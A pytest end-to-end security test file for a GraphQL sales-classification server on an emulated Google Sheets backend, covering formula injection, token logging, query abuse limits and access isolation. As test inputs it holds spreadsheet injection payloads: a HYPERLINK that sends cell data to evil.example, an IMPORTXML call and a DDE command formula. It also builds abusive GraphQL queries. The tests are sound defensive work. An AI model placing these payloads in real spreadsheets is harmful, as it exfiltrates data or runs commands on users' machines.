"""Security end to end: formula injection, tokens in logs, abusive queries, isolation.

The server here runs with DEBUG logging and tighter limits than the defaults, set through
configuration as an operator would (depth 8, 5 aliases, 600 tokens).
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from gspread.utils import ValueRenderOption

from server.api import documents
from tests.reliability.conftest import Tally
from tests.support.backend import (
    OTHER,
    OTHER_EMAIL,
    OWNER,
    OWNER_EMAIL,
    Stack,
    backend,
    demo_tabs,
    error_code,
    gspread_client,
    seed,
    share,
    unshare,
)

pytestmark = pytest.mark.e2e

MAX_DEPTH, MAX_ALIASES, MAX_TOKENS = 8, 5, 600
LIMITS = {
    "SALES_VERDICTS_LOG_LEVEL": "DEBUG",
    "SALES_VERDICTS_MAX_DEPTH": str(MAX_DEPTH),
    "SALES_VERDICTS_MAX_ALIASES": str(MAX_ALIASES),
    "SALES_VERDICTS_MAX_TOKENS": str(MAX_TOKENS),
    "SALES_VERDICTS_COALESCE_SECONDS": "0",
}


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    with backend(tmp_path_factory.mktemp("security"), env=LIMITS) as running:
        yield running


# -- formula-looking strings ---------------------------------------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@INDIRECT(A1)",
    "\t=1+1",
    "\x00=1+1",
    "=cmd|' /C calc'!A0",
]
EVIL_AMOUNT = '=IMPORTXML("http://evil.example","//a")'


def test_formula_looking_strings_reach_the_summary_as_text(stack: Stack, tally: Tally) -> None:
    plan: list[list[Any]] = [["Region", "Quarter", "Plan"]]
    deals: list[list[Any]] = [["Region", "Quarter", "Bookings"]]
    for i, name in enumerate(FORMULA_NAMES):
        for quarter, booked in (("Q1 2025", 100 + i), ("Q2 2025", 120 + i)):
            plan.append([name, quarter, 110])
            deals.append([name, quarter, booked])
    deals.append(["AMER", "Q2 2025", EVIL_AMOUNT])  # a rejected cell: its raw value is shown
    sheet = seed(stack.emulator.url, {"Plan": plan, "Bookings": deals})
    run = stack.query(documents.CLASSIFY, {"spreadsheetId": sheet})["classifyQuarter"]
    answered = {v["group"] for v in run["verdicts"]} - {None}

    book = gspread_client(stack.emulator.url, OWNER).open_by_key(sheet)
    grid = book.client.spreadsheets_get(
        sheet, params={"ranges": "'Summary'!A1:J60", "includeGridData": "true"}
    )
    entered = [
        cell.get("userEnteredValue", {})
        for row in grid["sheets"][0]["data"][0].get("rowData", [])
        for cell in row.get("values", [])
    ]
    formulas = [e for e in entered if "formulaValue" in e]
    texts = {e["stringValue"] for e in entered if "stringValue" in e}
    computed = {
        str(c)
        for row in book.worksheet("Summary").get_all_values(
            value_render_option=ValueRenderOption.unformatted
        )
        for c in row
    }
    for name in FORMULA_NAMES:
        tally.count("formula_strings", "tried")
        shown = name.strip()  # group names are trimmed (" AMER" is AMER); nothing else changes
        ok = shown in answered and shown in texts and shown in computed
        if not ok:
            tally.count("formula_strings", "not_text")
        assert shown in answered, (name, answered)
        assert shown in texts, f"{name!r} is not a text cell in the Summary"
        assert shown in computed, f"{name!r} reads back as something else"
        tally.count("formula_strings", "kept_as_text")
    assert any(EVIL_AMOUNT in t for t in texts), "the rejected value is shown as text"
    assert formulas == [], f"the Summary holds formulas: {formulas}"
    tally.count("formula_strings", "tried")  # the rejected amount
    tally.count("formula_strings", "kept_as_text")


# -- tokens in logs ------------------------------------------------------------------------

SECRET = "ya29.a0AfB_byC9-secret-access-token-that-must-never-be-logged-0123456789"
UNKNOWN = "ya29.a0AfB_unknown-token-refused-by-google-but-still-secret-9876543210"


def test_no_token_reaches_the_logs_even_at_debug_level(stack: Stack, tally: Tally) -> None:
    httpx.post(
        f"{stack.emulator.url}/_emulator/tokens",
        json={"token": SECRET, "email": OWNER_EMAIL},
        timeout=10,
    ).raise_for_status()
    sheet = seed(stack.emulator.url, demo_tabs())
    sent = [
        (documents.CLASSIFY, {"spreadsheetId": sheet}, SECRET),  # accepted
        (documents.LATEST_RUN, {"spreadsheetId": sheet}, SECRET),
        (documents.CLASSIFY, {"spreadsheetId": sheet}, UNKNOWN),  # refused by "Google"
        (documents.CLASSIFY, {"spreadsheetId": "1NoSuchSheet"}, SECRET),  # not found
        ("{ not graphql", {}, SECRET),  # a syntax error
    ]
    codes = []
    for document, variables, token in sent:
        body = stack.send(document, variables, token).json()
        codes.append(error_code(body) if body.get("errors") else "OK")
    assert codes[:3] == ["OK", "OK", "UNAUTHENTICATED"], codes
    # a token in the wrong header shape, and in a query string
    httpx.post(stack.graphql, json={"query": "{ __typename }"}, headers={"Authorization": SECRET})
    httpx.get(f"{stack.graphql}?access_token={SECRET}&query=%7B__typename%7D", timeout=10)

    time.sleep(0.3)  # let the server flush its log lines
    logs = stack.api.output()
    assert " DEBUG " in logs or "DEBUG:" in logs or "[DEBUG]" in logs, "DEBUG logging is on"
    assert "request=" in logs, "requests are logged"
    for token in (SECRET, UNKNOWN, OWNER):
        tally.count("token_logging", "tokens_searched_for")
        fragments = {token[i : i + 12] for i in range(len(token) - 11)}
        leaked = sorted(f for f in fragments if f in logs)
        if leaked:
            tally.count("token_logging", "tokens_logged")
        assert not leaked, f"token fragments in the server log: {leaked[:3]}"
    tally.count("token_logging", "tried", len(sent) + 2)  # requests that carried a token
    tally.count("token_logging", "log_lines_searched", logs.count("\n"))


# -- abusive queries -----------------------------------------------------------------------


def too_deep(sheet: str, depth: int) -> str:
    """``classifyQuarter`` with selections nested ``depth`` levels (the schema's own types
    go 3 deep, so the levels below are made up: the depth rule must refuse it all the same)."""
    inner = "x"
    for i in range(depth - 2):
        inner = f"f{i} {{ {inner} }}"
    return f'mutation {{ classifyQuarter(spreadsheetId: "{sheet}") {{ current {{ {inner} }} }} }}'


def deepest(sheet: str) -> str:
    """The deepest query the schema allows (3 levels), with a fragment."""
    return (
        f'mutation {{ classifyQuarter(spreadsheetId: "{sheet}") {{ ...Run }} }} '
        "fragment Run on ClassificationRun { verdicts { group flags } issues { cell } }"
    )


INTROSPECTION_BOMB = (
    "{ __schema { types { fields { type { fields { type { fields { type { name } } } } } } } } }"
)


def aliased(sheet: str, n: int) -> str:
    fields = " ".join(f'a{i}: classifyQuarter(spreadsheetId: "{sheet}") {{ id }}' for i in range(n))
    return f"mutation {{ {fields} }}"


def padded(sheet: str, tokens: int) -> str:
    """``classifyQuarter`` with ``{ id }`` repeated to about ``tokens`` lexical tokens."""
    head = f'mutation {{ classifyQuarter(spreadsheetId: "{sheet}") {{ id '
    base = len(["mutation", "{", "classifyQuarter", "(", "spreadsheetId", ":", "str", ")", "{"])
    body = " ".join(["id"] * max(1, tokens - base - 3))
    return head + body + " } }"


def test_queries_over_a_limit_are_refused_before_any_resolver_and_under_it_pass(
    stack: Stack, tally: Tally
) -> None:
    sheet = seed(stack.emulator.url, demo_tabs())

    def runs() -> int:
        answer = stack.query(documents.RUNS, {"spreadsheetId": sheet, "limit": 100})
        return len(answer["runs"])

    def attempt(document: str) -> tuple[dict[str, Any], int, int]:
        """(answer, Google requests it caused, runs it recorded)"""
        before = runs()
        stack.clear_google_requests()
        answer = stack.send(document)
        assert answer.status_code < 500, answer.text
        return answer.json(), len(stack.google_requests(sheet)), runs() - before

    abusive = {
        "depth": too_deep(sheet, MAX_DEPTH + 1),
        "introspection depth": INTROSPECTION_BOMB,
        "aliases": aliased(sheet, MAX_ALIASES + 1),
        "tokens": padded(sheet, MAX_TOKENS + 5),
    }
    refusals = {
        "depth": f"exceeds maximum operation depth of {MAX_DEPTH}",
        "introspection depth": "Maximum introspection depth exceeded",
        "aliases": f"Allowed: {MAX_ALIASES}",
        "tokens": f"more than {MAX_TOKENS} tokens",
    }
    fine = {
        "depth": deepest(sheet),
        "aliases": aliased(sheet, MAX_ALIASES),
        "tokens": padded(sheet, MAX_TOKENS - 20),
    }
    for limit, document in abusive.items():
        tally.count("abusive_queries", "tried")
        answer, google, recorded = attempt(document)
        if google or recorded:
            tally.count("abusive_queries", "resolver_reached")
        assert answer.get("errors"), (limit, answer)
        assert answer.get("data") is None, limit
        assert error_code(answer) == "BAD_INPUT", (limit, answer)
        messages = " ".join(e["message"] for e in answer["errors"])
        assert refusals[limit] in messages, (limit, messages)
        assert (google, recorded) == (0, 0), f"{limit}: a resolver ran"
        tally.count("abusive_queries", "refused_before_any_resolver")
    for limit, document in fine.items():
        tally.count("abusive_queries", "tried")
        answer, google, recorded = attempt(document)
        assert not answer.get("errors"), (limit, answer)
        assert google >= 1, f"{limit}: the query just under the limit classified"
        assert recorded >= 1, limit
        tally.count("abusive_queries", "just_under_the_limit_passed")


# -- isolation -------------------------------------------------------------------------------


def test_a_user_never_sees_runs_of_a_spreadsheet_they_cannot_open(
    stack: Stack, tally: Tally
) -> None:
    mine = seed(stack.emulator.url, demo_tabs(), token=OWNER)
    theirs = seed(stack.emulator.url, demo_tabs(), token=OTHER)
    my_run = stack.query(documents.CLASSIFY, {"spreadsheetId": mine})["classifyQuarter"]["id"]
    their_run = stack.query(documents.CLASSIFY, {"spreadsheetId": theirs}, token=OTHER)
    their_id = their_run["classifyQuarter"]["id"]

    probes: list[tuple[str, dict[str, Any], str | None, str]] = [
        (documents.LATEST_RUN, {"spreadsheetId": mine}, OTHER, my_run),
        (documents.RUNS, {"spreadsheetId": mine, "limit": 100}, OTHER, my_run),
        (documents.CLASSIFY, {"spreadsheetId": mine}, OTHER, my_run),
        (documents.LATEST_RUN, {"spreadsheetId": theirs}, OWNER, their_id),
        (documents.RUNS, {"spreadsheetId": theirs, "limit": 100}, OWNER, their_id),
        (documents.LATEST_RUN, {"spreadsheetId": mine}, None, my_run),
        (documents.RUNS, {"spreadsheetId": mine, "limit": 5}, "forged-token", my_run),
    ]
    for document, variables, token, hidden in probes:
        tally.count("isolation", "tried")
        answer = stack.send(document, variables, token)
        if hidden in answer.text:
            tally.count("isolation", "runs_leaked")
        assert hidden not in answer.text, (document[:30], token)
        assert error_code(answer.json()) in ("FORBIDDEN", "UNAUTHENTICATED"), answer.text
        tally.count("isolation", f"refused_{error_code(answer.json())}")

    # once shared, the other user sees the runs: the refusals above were about access
    share(stack.emulator.url, mine, OTHER_EMAIL)
    seen = stack.query(documents.RUNS, {"spreadsheetId": mine, "limit": 100}, token=OTHER)
    assert my_run in {r["id"] for r in seen["runs"]}
    tally.count("isolation", "tried")
    tally.count("isolation", "seen_once_shared")


def test_after_an_unshare_no_run_made_later_is_shown(stack: Stack, tally: Tally) -> None:
    sheet = seed(stack.emulator.url, demo_tabs(), token=OWNER)
    share(stack.emulator.url, sheet, OTHER_EMAIL, role="reader")
    stack.query(documents.CLASSIFY, {"spreadsheetId": sheet})
    seen = stack.query(documents.LATEST_RUN, {"spreadsheetId": sheet}, token=OTHER)
    assert seen["latestRun"] is not None  # a "yes" for the colleague is kept now
    unshare(stack.emulator.url, sheet, OTHER_EMAIL)
    later = stack.query(
        documents.CLASSIFY, {"spreadsheetId": sheet, "options": {"fiscalYearStartMonth": 2}}
    )["classifyQuarter"]["id"]
    for document in (documents.LATEST_RUN, documents.RUNS):
        tally.count("isolation", "tried")
        answer = stack.send(document, {"spreadsheetId": sheet, "limit": 5}, OTHER)
        if later in answer.text:
            tally.count("isolation", "runs_leaked")
        assert later not in answer.text, "a run made after the unshare was shown"
        assert error_code(answer.json()) == "FORBIDDEN", answer.text
        tally.count("isolation", "refused_after_unshare")
